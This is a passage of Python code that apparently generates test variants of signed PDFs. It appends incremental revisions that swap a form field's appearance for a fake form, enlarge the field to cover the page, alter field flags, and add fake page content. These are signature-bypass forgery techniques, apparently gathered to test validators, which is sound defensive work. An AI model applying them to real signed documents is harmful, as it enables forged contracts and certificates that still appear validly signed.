        "fonts that are part of the store": revision(fonts.data, {
            other: b"<</F1<</Type/Font/Subtype/Type1/BaseFont/Courier>>>>"}),
        "contents that are part of the store": revision(kids.data, {
            kids.new_of["other"]: b"[%d 0 R %d 0 R]" % (kids.content, kids.new),
            kids.new: stream(FAKE)})})
    return made


@family("overlay by a field's look")
def overlay(bases):
    """The look of a field that is there, empty or signed, is exchanged."""
    fields, made = bases.certified2, {}
    with pikepdf.open(io.BytesIO(fields.data)) as pdf:
        widgets = {str(f.T): (f.objgen[0], as_it_stands(fields.data, pdf, f))
                   for f in pdf.Root.AcroForm.Fields}
    for name, (number, body) in widgets.items():
        look = re.sub(rb"/AP ?<<[^>]*>>", b"/AP << /N %d 0 R >>" % fields.new, body)
        if look == body:
            look = body[:-2] + b"/AP << /N %d 0 R >> >>" % fields.new
        kind = "signed" if b"/V " in body else "empty"
        made[f"look of a field that is {kind}, exchanged"] = revision(
            fields.data, {number: look, fields.new: FAKE_FORM})
        made[f"rectangle of a field that is {kind}, moved"] = revision(fields.data, {
            number: re.sub(rb"/Rect ?\[[^]]*\]", b"/Rect [ 0 0 595 842 ]", look),
            fields.new: FAKE_FORM})
        made[f"flags of a field that is {kind}, changed"] = revision(
            fields.data, {number: re.sub(rb"/F \d+", b"/F 2", body)})
    return made
